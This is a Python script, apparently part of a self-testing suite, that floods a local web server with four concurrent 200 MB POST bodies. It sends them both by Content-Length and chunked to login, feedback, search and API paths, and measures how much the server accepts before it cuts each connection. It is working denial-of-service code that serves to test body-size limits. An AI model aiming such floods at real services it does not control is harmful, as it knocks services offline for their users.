"""Four posts at a time of 200 MB each, by their length and in chunks, to a form and to the API."""

import asyncio
import time
from collections import Counter

from scripts.attacks.target import ATTACKER, Target, counted, run

AT_A_TIME, SIZE, PIECE = 4, 200_000_000, 1_000_000
PATHS = ("/masuk", "/umpan-balik", "/api/v1/feedback", "/cari")


async def post(port: int, path: str, chunked: bool) -> tuple[int, int]:
    """The status, and the bytes that were taken before the connection ended."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
    how = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {SIZE}"
    kind = "application/json" if path.startswith("/api/") else "multipart/form-data; boundary=x"
    writer.write(f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\n{how}\r\n\r\n".encode())
    answer = asyncio.create_task(reader.read(12))
    start = b"" if path.startswith("/api/") else b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\n'
    sent = 0
    try:
        async with asyncio.timeout(30):
            while sent < SIZE and not answer.done():
                piece = (start if not sent else b"").ljust(PIECE, b"a")
                writer.write(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
                await writer.drain()
                sent += PIECE
                await asyncio.sleep(0)
            if chunked and sent >= SIZE:
                writer.write(b"0\r\n\r\n")
            return int((await answer)[9:12] or 0), sent
    except (OSError, TimeoutError):
        return 0, sent
    finally:
        answer.cancel()
        writer.transport.abort()


async def attack(target: Target, seconds: float) -> str:
    statuses: Counter = Counter()
    until, taken, turn = time.monotonic() + seconds, 0, 0

    async def client(number: int) -> None:
        nonlocal taken, turn
        while time.monotonic() < until:
            turn += 1
            try:
                status, sent = await post(target.port, PATHS[turn % len(PATHS)], turn // len(PATHS) % 2 == 1)
            except OSError:
                status, sent = 0, 0
            statuses[status] += 1
            taken = max(taken, sent)

    await asyncio.gather(*(client(number) for number in range(AT_A_TIME)))
    return f"{counted(statuses)}; of one body {taken / 1e6:,.0f} MB were taken at most"


if __name__ == "__main__":
    run("body flood", __doc__, attack)
